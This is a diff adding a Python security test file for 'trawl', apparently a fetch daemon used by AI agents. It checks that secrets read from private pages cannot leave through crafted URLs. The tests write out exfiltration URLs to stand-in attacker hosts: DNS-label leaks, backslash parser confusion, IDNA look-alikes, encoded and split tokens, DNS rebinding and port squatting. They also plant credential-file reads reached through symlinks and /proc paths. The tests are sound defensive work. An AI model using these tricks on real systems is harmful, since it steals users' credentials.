@@ -1,0 +1,450 @@
+"""Attacker's-eye review of the defences that were rebuilt from principles (exit rule, never-read roots, address
+comparisons), against the real daemon over real sockets.
+
+Found and fixed here (each first mounted as a failing test):
+
+* **DNS before the exit rule.** After a private read, ``http://<secret>.exfil.test/`` was held, but the
+  private-network rule had already looked the name up: the label reached the resolver (and so the attacker's
+  name server) before the exit decision. The exit rule now decides before any name of the agent's URL is looked up.
+* **Two parsers, two hosts.** ``http://<attacker>\\@<private origin>/`` is the private origin to Python's parser
+  (and httpx) but the attacker to every browser's (WHATWG: ``\\`` ends the authority). The exit rule let it go as
+  the private content's own origin, and the user's browser (the extension) opened the attacker's page with it;
+  headless Chromium was held by the daemon's proxy, which judges the connection it makes. Every check and the
+  fetch now read the URL the way a browser does, and a redirect hop is decided under both readings.
+* **IDNA 2003 vs UTS #46.** ``faß.test`` was ``fass.test`` to trawl's host comparisons but ``xn--fa-hia.test`` to
+  httpx and Chromium: an allow entry for ``fass.test`` vouched for another registrant's domain.
+* **A token file.** A document-named file whose lines are nothing but secret-looking tokens (``deploy-key.txt``,
+  a pasted API key) was read for agents; its content is a secret's, whatever its name.
+
+Held (kept as regression tests): a transformed secret to an unvouched host, split over several requests; the
+classic address spellings of a private origin used as the attacker's host.
+"""
+
+from __future__ import annotations
+
+import socket
+from collections.abc import AsyncIterator, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aiohttp import web
+from trawl.exits import normalise_url
+from trawl.policy import canonical_host
+from trawl.roots import content_reason
+from trawl.server.runner import RunningDaemon
+
+from tests.integration.test_daemon_helpers import daemon_settings
+from tests.security.test_exits import TOKEN, Server, fetch, page, serve
+from tests.security.test_exits import attacker as attacker  # the fixture
+from tests.security.test_private_hosts import v1_fetch
+
+NOTES = page("Notes", f"<p>The payment API key is {TOKEN}; it stays in the team.</p>" * 2)
+
+
+async def serve_notes(srv: Server) -> tuple[web.AppRunner, int]:
+    """A local service on 127.0.0.1 whose notes show the secret (a dev server, a NAS, an intranet wiki)."""
+
+    async def handle(request: web.Request) -> web.Response:
+        srv.hits.append(str(request.rel_url))
+        return web.Response(text=NOTES, content_type="text/html")
+
+    return await serve("127.0.0.1", handle)
+
+
+async def read_private(d: RunningDaemon, url: str) -> None:
+    """The agent reads the private page: its session is tainted from now on."""
+    notes = await fetch(d, url)
+    assert notes["ok"] is True and TOKEN in str(notes["chunks"]), notes
+
+
+def held(body: dict[str, Any], what: object = "") -> None:
+    """Not sent: held for the user's yes, or refused."""
+    assert body["ok"] is False and body["error"]["code"] in ("exit_held", "exit_refused"), (what, body)
+
+
+@pytest.fixture
+async def service() -> AsyncIterator[Server]:
+    """The local service on ``localhost`` (private by name and by address)."""
+    srv = Server("")
+    runner, port = await serve_notes(srv)
+    srv.url = f"http://localhost:{port}"
+    yield srv
+    await runner.cleanup()
+
+
+class Lookups:
+    """Every name trawl's resolver is asked for (``socket.getaddrinfo``, the seam every source resolves through);
+    ``answers`` maps a few test names to addresses, the rest resolve as usual."""
+
+    def __init__(self, answers: dict[str, str] | None = None) -> None:
+        self.names: list[str] = []
+        self.answers = answers or {}
+        self._real = socket.getaddrinfo
+
+    def __call__(self, host: Any, port: Any, *args: Any, **kw: Any) -> Any:
+        name = (host.decode() if isinstance(host, bytes) else str(host)).rstrip(".").lower()
+        self.names.append(name)
+        if name in self.answers:
+            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (self.answers[name], int(port or 0)))]
+        if name.endswith(".exfil.test"):
+            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
+        return self._real(host, port, *args, **kw)
+
+
+async def test_a_held_url_puts_nothing_of_itself_into_a_dns_query(
+    tmp_path: Path, service: Server, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Sent before: the held URL's host was looked up by the private-network rule first (``check_policy``), so the
+    secret in its first label reached the resolver. The exit rule now decides first."""
+    lookups = Lookups()
+    monkeypatch.setattr(socket, "getaddrinfo", lookups)
+    label = TOKEN.lower()
+    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
+        await read_private(d, f"{service.url}/notes")
+        body = await fetch(d, f"http://{label}.exfil.test/c")
+        held(body)
+        async with __import__("httpx").AsyncClient(base_url=d.url, timeout=30) as c:  # the MCP face's question
+            r = await c.post("/v1/exit_check", json={"fetch_url": f"http://{label}.ask.exfil.test/c"},
+                             headers={"Authorization": f"Bearer {d.token}"})
+        assert r.status_code in (200, 404), r.text
+    leaked = [n for n in lookups.names if label in n.replace(".", "")]
+    assert leaked == [], f"the resolver was asked for {leaked}"
+
+
+async def test_a_url_two_parsers_read_differently_goes_where_a_browser_sends_it(
+    tmp_path: Path, chromium: str, service: Server, attacker: Server
+) -> None:
+    """``http://127.0.0.1:<attacker>\\@localhost:<service>/``: Python's parser (and httpx) read the host after the
+    ``@`` (the private origin, free after its own read); Chromium's ends the authority at the backslash and asks
+    the attacker for ``/@localhost:<service>/?k=…``. Sent before through headless Chromium; now held."""
+    aport = attacker.url.rsplit(":", 1)[1]
+    sport = service.url.rsplit(":", 1)[1]
+    tricky = f"http://127.0.0.1:{aport}\\@localhost:{sport}/c?k={TOKEN[::-1]}"
+    settings = daemon_settings(tmp_path, allow_private_hosts=True, chromium_path=chromium, render_timeout_s=40.0)
+    async with RunningDaemon(settings, warm=False) as d:
+        await read_private(d, f"{service.url}/notes")
+        for source in ("playwright", "http"):
+            body = await v1_fetch(d, tricky, query="", source=source)
+            held(body, source)
+    assert attacker.hits == [], f"the attacker received {attacker.hits}"
+
+
+@pytest.mark.timeout(120)
+async def test_the_users_browser_is_not_sent_to_the_attacker_by_a_url_python_reads_as_the_private_origin(
+    tmp_path: Path, chromium: str, service: Server, attacker: Server
+) -> None:
+    """The same URL through the real extension in Chromium (the user's browser, with their cookies): the exit rule
+    judged Python's reading (the private origin, free), the browser opened its own (the attacker). Now held."""
+    from tests.e2e.conftest import close_linked, e2e_settings, launch_linked
+
+    aport = attacker.url.rsplit(":", 1)[1]
+    sport = service.url.rsplit(":", 1)[1]
+    tricky = f"http://127.0.0.1:{aport}\\@localhost:{sport}/c?k={TOKEN[::-1]}"
+    stack = await launch_linked(tmp_path, chromium, settings=e2e_settings(tmp_path, allow_private_hosts=True))
+    try:
+        assert await stack.hub.wait_attached(15), stack.hub.describe()
+        await read_private(stack.daemon, f"{service.url}/notes")
+        body = await v1_fetch(stack.daemon, tricky, query="", source="extension")
+        held(body)
+        control = await v1_fetch(stack.daemon, f"{attacker.url}/public", query="", source="extension")
+    finally:
+        await close_linked(stack)
+    assert not any("/c" in h for h in attacker.hits), f"the attacker received {attacker.hits} ({control.get('ok')})"
+
+
+def test_every_check_reads_a_url_as_a_browser_does() -> None:
+    """The one spelling every check and the fetch see: a browser's reading of the authority."""
+    assert normalise_url("http://127.0.0.1:9\\@localhost:8/p?q=1").startswith("http://127.0.0.1:9/")
+    assert normalise_url("http://a.test\\@b.test/") == "http://a.test/@b.test/"
+    assert normalise_url("https://docs.example.com/a?b=c") == "https://docs.example.com/a?b=c"  # unchanged
+    assert normalise_url("http://Host.Example:8080/P") == "http://host.example:8080/P"
+
+
+@pytest.mark.parametrize(("written", "connected"), [
+    ("faß.test", "xn--fa-hia.test"),  # UTS #46 nontransitional (browsers, httpx's idna): ß is kept
+    ("straße.example", "xn--strae-oqa.example"),
+    ("ＦＡＳＳ.test", "fass.test"),  # full-width folds
+    ("Bücher.example", "xn--bcher-kva.example"),
+])
+def test_an_international_host_is_compared_as_the_connection_spells_it(written: str, connected: str) -> None:
+    assert canonical_host(written) == connected
+
+
+async def test_an_allow_entry_does_not_vouch_for_a_look_alike_international_domain(
+    tmp_path: Path, service: Server, attacker: Server, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """``TRAWL_EXIT_ALLOW_HOSTS=fass.test``; the agent writes ``faß.test``, which httpx and browsers send to
+    ``xn--fa-hia.test`` (someone else's domain; here the attacker's server). Sent before (IDNA 2003 folded ß to ss
+    for the comparison only); now held."""
+    aport = int(attacker.url.rsplit(":", 1)[1])
+    monkeypatch.setattr(socket, "getaddrinfo", Lookups({"xn--fa-hia.test": "127.0.0.1", "fass.test": "127.0.0.1"}))
+    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("fass.test",))
+    async with RunningDaemon(settings, warm=False) as d:
+        await read_private(d, f"{service.url}/notes")
+        body = await fetch(d, f"http://faß.test:{aport}/c?k={TOKEN[::-1]}")
+        held(body)
+        control = await fetch(d, f"http://fass.test:{aport}/allowed")  # the allowed host itself is reached
+    assert attacker.hits == ["/allowed"], f"the attacker received {attacker.hits} ({control.get('ok')})"
+
+
+async def test_transformed_and_split_secrets_to_an_unvouched_host_are_all_held(
+    tmp_path: Path, service: Server, attacker: Server
+) -> None:
+    """The flow rule does not read the URL: every spelling of the secret, and every piece of it, is held."""
+    import base64
+
+    s = TOKEN
+    spellings = [
+        s.lower(), s.upper(), "-".join(s), s[::-1], s[::2], s[1::2], base64.b32encode(s.encode()).decode(),
+        base64.b64encode(s.encode()).decode(), s.encode().hex(), "".join(f"%{b:02x}" for b in s.encode()),
+        s[:5] + "." + s[5:], "xn--" + s.lower(), s.replace("2", "two").replace("4", "four"),
+        s.translate(str.maketrans("aeopcx", "аеорсх")),  # Cyrillic look-alikes
+    ]
+    base = attacker.url
+    urls = [f"{base}/q?d={v}" for v in spellings] + [f"{base}/p/{v}" for v in spellings[:4]]
+    urls += [f"{base}/#{s}", f"{base}/part?i=1&d={s[:6]}", f"{base}/part?i=2&d={s[6:12]}"]
+    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
+        await read_private(d, f"{service.url}/notes")
+        for url in urls:
+            body = await fetch(d, url)
+            held(body, url)
+    assert attacker.hits == [], attacker.hits
+
+
+@pytest.mark.parametrize("body", [
+    "ghp_R8k2Lq9Wm4Zx7Tn3Vb6Yc1Hd5Jf0Sg2Pa4Ke\n",
+    "  Zq8vX2mN7pR4tW9yB3kLd5Hx7Rk2Wp9  \n\n",
+    "# deploy key, rotate monthly\nAKIAIOSFODNN7QWERTY12\nwJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8vX2mN7p\n",
+])
+def test_a_file_of_nothing_but_a_token_is_a_secret_whatever_its_name(body: str) -> None:
+    """A document-named file (``deploy-key.txt``, ``notes.md``) whose every line is one secret-looking value holds a
+    secret, not a document."""
+    for name in ("deploy-key.txt", "notes.md", "README"):
+        assert content_reason(name, body.encode(), named=False) is not None, (name, body)
+
+
+@pytest.mark.parametrize("body", [
+    "A short note about the release.\n",
+    "v1.2.3\n",
+    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  dist/trawl.tar.gz\n",
+    "https://docs.example.com/guide/getting-started\n",
+])
+def test_a_short_ordinary_document_is_still_read(body: str) -> None:
+    assert content_reason("notes.txt", body.encode(), named=False) is None, body
+
+
+async def test_a_browser_profile_kept_inside_a_root_is_not_read(tmp_path: Path) -> None:
+    """A Chromium profile made with ``--user-data-dir`` inside a project (no listed directory names it): its
+    history, cookies and saved logins are SQLite databases; ``History`` even has a document's name."""
+    import sqlite3
+
+    profile = tmp_path / "proj" / "chrome-profile" / "Default"
+    profile.mkdir(parents=True)
+    for name in ("History", "Cookies", "Login Data"):
+        db = sqlite3.connect(profile / name)
+        db.execute("create table t(v text)")
+        db.execute("insert into t values (?)", (f"https://bank.example/account?session={TOKEN}",))
+        db.commit()
+        db.close()
+    (profile.parent / "Local State").write_text('{"os_crypt": {"encrypted_key": "' + TOKEN + '"}}')
+    async with RunningDaemon(daemon_settings(tmp_path), warm=False) as d:
+        for f in [profile / "History", profile / "Cookies", profile / "Login Data", profile.parent / "Local State"]:
+            body = await fetch(d, str(f))
+            assert body["ok"] is False and body["error"]["code"] in ("path_not_allowed", "unsupported_content",
+                                                                     "invalid_request"), (f.name, body)
+            assert TOKEN not in str(body), body
+
+
+async def test_credential_stores_reached_by_odd_paths_or_moved_by_the_environment_are_not_read(
+    tmp_path: Path
+) -> None:
+    """Held: an SSH key reached through a symlink, ``..``, ``/proc/self/root``, ``/dev/fd`` or a hard link; and the
+    stores tools keep wherever an environment variable moves them (``GNUPGHOME``, ``CLOUDSDK_CONFIG``,
+    ``AWS_SHARED_CREDENTIALS_FILE``, ``KUBECONFIG``, ``DOCKER_CONFIG``, ``PASSWORD_STORE_DIR``, ``XDG_CONFIG_HOME``,
+    ``NETRC``) into a root under names no list knows: they are data, keys or extensionless files, never documents."""
+    import os
+
+    key = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{TOKEN}\n-----END OPENSSH PRIVATE KEY-----\n"
+    ssh = tmp_path / "home" / ".ssh"
+    ssh.mkdir(parents=True)
+    (ssh / "id_ed25519").write_text(key)
+    root = tmp_path / "proj"
+    moved = {  # where the environment put each tool's store, inside the root
+        "gpg/private-keys-v1.d/4F2A.key": key, "gpg/pubring.kbx": TOKEN, "gcloud/credentials.db": TOKEN,
+        "gcloud/legacy_credentials/me/adc.json": '{"refresh_token": "' + TOKEN + '"}',
+        "gcloud/configurations/config_default": f"[core]\naccount = me\ntoken = {TOKEN}\n",
+        "aws-creds": f"[default]\naws_secret_access_key = {TOKEN}\n", "kube/config": f"users:\n- token: {TOKEN}\n",
+        "docker/config.json": '{"auths": {"r": {"auth": "' + TOKEN + '"}}}', "pass/bank.gpg": TOKEN,
+        "cfg/rclone/rclone.conf": f"[drive]\ntoken = {TOKEN}\n",
+        "cfg/gh/hosts.yml": f"github.com:\n  oauth_token: {TOKEN}\n",
+        "cfg/git/credentials": f"https://me:{TOKEN}@github.com\n", "netrc": f"machine h login me password {TOKEN}\n",
+        "notes/api-key.txt": f"{TOKEN}\n",
+    }
+    for rel, text in moved.items():
+        (root / rel).parent.mkdir(parents=True, exist_ok=True)
+        (root / rel).write_text(text)
+    (root / "link-to-key.md").symlink_to(ssh / "id_ed25519")
+    os.link(ssh / "id_ed25519", root / "hard-link.md")
+    tries = [root / rel for rel in moved] + [
+        root / "link-to-key.md", root / "hard-link.md", Path(f"{root}/../home/.ssh/id_ed25519"),
+        Path(f"/proc/self/root{ssh}/id_ed25519"),
+    ]
+    async with RunningDaemon(daemon_settings(tmp_path, file_roots=(str(root),)), warm=False) as d:
+        with open(ssh / "id_ed25519") as fh:
+            tries.append(Path(f"/dev/fd/{fh.fileno()}"))
+            for f in tries:
+                body = await fetch(d, str(f))
+                assert body["ok"] is False, (str(f), body)
+                assert TOKEN not in str(body), body
+
+
+async def test_another_user_squatting_the_private_origins_port_receives_nothing(tmp_path: Path) -> None:
+    """Another OS user waits for the user's dev server on 127.0.0.1:PORT to stop, then listens on that port. The
+    agent read the dev server, so its own origin is free: ``http://127.0.0.1:PORT/c?k=<secret>`` went to the
+    squatter. trawl now connects to a loopback port only when its listener is the user's own (or root's, which is
+    out of scope: it can read everything anyway), read from the kernel like the daemon's own door."""
+    from tests.security.channel_util import Recorder, require_root
+
+    require_root()
+    runner, port = await serve_notes(Server(""))
+    async with RunningDaemon(daemon_settings(tmp_path), warm=False) as d:
+        await read_private(d, f"http://127.0.0.1:{port}/notes")
+        await runner.cleanup()  # the dev server stops ...
+        squatter = Recorder.tcp(port, as_nobody=True)  # ... and another user takes its port
+        try:
+            body = await fetch(d, f"http://127.0.0.1:{port}/c?k={TOKEN[::-1]}")
+            got = squatter.received()
+        finally:
+            squatter.stop()
+    assert TOKEN[::-1].encode() not in got and got == b"", f"the squatter received {got[:200]!r}"
+    assert body["ok"] is False and body["error"]["code"] == "blocked_by_policy", body
+    assert "another user" in body["error"]["message"], body["error"]
+
+
+@pytest.fixture
+def another_user() -> Iterator[tuple[int, Any]]:
+    """Another OS user (``nobody``) listening on a free loopback port, recording every byte it is sent."""
+    from tests.security.channel_util import Recorder, require_root
+
+    require_root()
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = int(probe.getsockname()[1])
+    squatter = Recorder.tcp(port, as_nobody=True)
+    try:
+        yield port, squatter
+    finally:
+        squatter.stop()
+
+
+@pytest.mark.parametrize("source", ["http", "playwright"])
+async def test_no_source_sends_a_request_to_another_users_loopback_listener(
+    tmp_path: Path, chromium: str, source: str, another_user: tuple[int, Any]
+) -> None:
+    """The same rule for every connection trawl makes: the HTTP source's (pinned transport) and headless
+    Chromium's (the daemon's proxy). Another user's listener gets no byte, not even in a session that read
+    nothing (its pages are not the user's own service either)."""
+    port, squatter = another_user
+    settings = daemon_settings(tmp_path, chromium_path=chromium, render_timeout_s=40.0)
+    async with RunningDaemon(settings, warm=False) as d:
+        body = await v1_fetch(d, f"http://127.0.0.1:{port}/page", query="", source=source)
+    got = squatter.received()
+    assert got == b"", f"the squatter received {got[:200]!r}"
+    assert body["ok"] is False, body
+
+
+@pytest.mark.timeout(120)
+async def test_the_users_browser_is_not_sent_to_another_users_loopback_listener(
+    tmp_path: Path, chromium: str, another_user: tuple[int, Any]
+) -> None:
+    """The extension's tab cannot ask the kernel who listens: the daemon does, before any source runs (the
+    listener table), so the user's browser, with its cookies for ``127.0.0.1``, sends the squatter nothing."""
+    from tests.e2e.conftest import close_linked, e2e_settings, launch_linked
+
+    port, squatter = another_user
+    stack = await launch_linked(tmp_path, chromium, settings=e2e_settings(tmp_path))
+    try:
+        assert await stack.hub.wait_attached(15), stack.hub.describe()
+        body = await v1_fetch(stack.daemon, f"http://127.0.0.1:{port}/page", query="", source="extension")
+    finally:
+        await close_linked(stack)
+    got = squatter.received()
+    assert got == b"", f"the squatter received {got[:200]!r}"
+    assert body["ok"] is False and body["error"]["code"] == "blocked_by_policy", body
+
+
+def test_a_host_named_inside_a_url_is_found_in_every_spelling_a_browser_follows() -> None:
+    """An open redirect's target written with backslashes (``http:\\\\h``, ``/\\h``), which a browser follows to
+    host h: the exit rule must see that host too."""
+    from trawl.exits import nested_hosts
+
+    for target in ("http:%5C%5Cattacker.test/x", "/%5Cattacker.test/x", "http:/%5Cattacker.test",
+                   "%2F%2Fattacker.test"):
+        assert "attacker.test" in nested_hosts(f"https://ok.example/go?to={target}"), target
+
+
+@pytest.mark.parametrize("body", [
+    "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: me@laptop\nPublic-Lines: 2\n"
+    "AAAAC3NzaC1lZDI1NTE5AAAAIHq8vX2mN7pR4tW9yB3kLd5Hx7Rk2Wp9\nZq8vX2mN7pR4tW9yB3kL\nPrivate-Lines: 1\n"
+    "AAAAIFq8vX2mN7pR4tW9yB3kLd5Hx7Rk2Wp9Zq8vX2mN7pR4\nPrivate-MAC: 5f2a9c\n",
+    "# created: 2026-01-01T00:00:00Z\n# public key: age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n"
+    "AGE-SECRET-KEY-1QYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQY\n",
+])
+def test_a_private_key_in_any_format_is_refused_whatever_the_files_name(body: str) -> None:
+    for name in ("laptop.txt", "notes.md", "key-backup.py"):
+        assert content_reason(name, body.encode(), named=True) is not None, (name, body[:30])
+
+
+def test_a_list_of_links_with_commit_hashes_is_still_a_document() -> None:
+    body = ("https://github.com/example/project/commit/3f2a9c4e5b6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f\n"
+            "https://github.com/example/project/commit/9e0f3f2a9c4e5b6d7e8f9a0b1c2d3e4f5a6b7c8d\n")
+    assert content_reason("links.txt", body.encode(), named=False) is None
+
+
+@pytest.mark.parametrize(("source", "when"), [("http", "before"), ("playwright", "before"),
+                                             ("playwright", "during")])
+async def test_the_private_origin_cannot_be_rebound_to_the_attacker_after_its_read(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, chromium: str, source: str, when: str
+) -> None:
+    """``rebind.test`` answers 127.0.0.1 (the user's service) for the private read, then the attacker's address:
+    the name is the private content's own origin, so the composed URL was free, and it went to the new address.
+    The own-origin allowance is bound to the addresses the private read connected to. ``during``: the name moves
+    only once the HTTP source's walk of the hops (a tainted session's headless fetch) was answered by the service,
+    so only the headless proxy's own lookup sees the attacker's address."""
+    lookups = Lookups({"rebind.test": "127.0.0.1"})
+    monkeypatch.setattr(socket, "getaddrinfo", lookups)
+    got: list[str] = []
+
+    async def service(request: web.Request) -> web.Response:
+        if request.path == "/c" and when == "during":
+            lookups.answers["rebind.test"] = "127.0.0.2"
+        return web.Response(text=NOTES, content_type="text/html", headers={"Connection": "close"})
+
+    async def collect(request: web.Request) -> web.Response:
+        got.append(str(request.rel_url))
+        return web.Response(text=page("Thanks", "<p>" + "Collected, thank you for the data. " * 5 + "</p>"),
+                            content_type="text/html")
+
+    runners = []
+    for handler in (service, collect):
+        app = web.Application()
+        app.router.add_get("/{tail:.*}", handler)
+        runner = web.AppRunner(app, access_log=None)
+        await runner.setup()
+        runners.append(runner)
+    await web.TCPSite(runners[0], "127.0.0.1", 0).start()
+    port = int(runners[0].addresses[0][1])
+    await web.TCPSite(runners[1], "127.0.0.2", port).start()
+    try:
+        settings = daemon_settings(tmp_path, chromium_path=chromium, render_timeout_s=40.0)
+        async with RunningDaemon(settings, warm=False) as d:
+            await read_private(d, f"http://rebind.test:{port}/notes")
+            if when == "before":
+                lookups.answers["rebind.test"] = "127.0.0.2"  # the attacker's name server changes its answer
+            body = await v1_fetch(d, f"http://rebind.test:{port}/c?k={TOKEN[::-1]}", query="", source=source)
+    finally:
+        for runner in runners:
+            await runner.cleanup()
+    assert got == [], f"the attacker received {got}"
+    assert body["ok"] is False, body
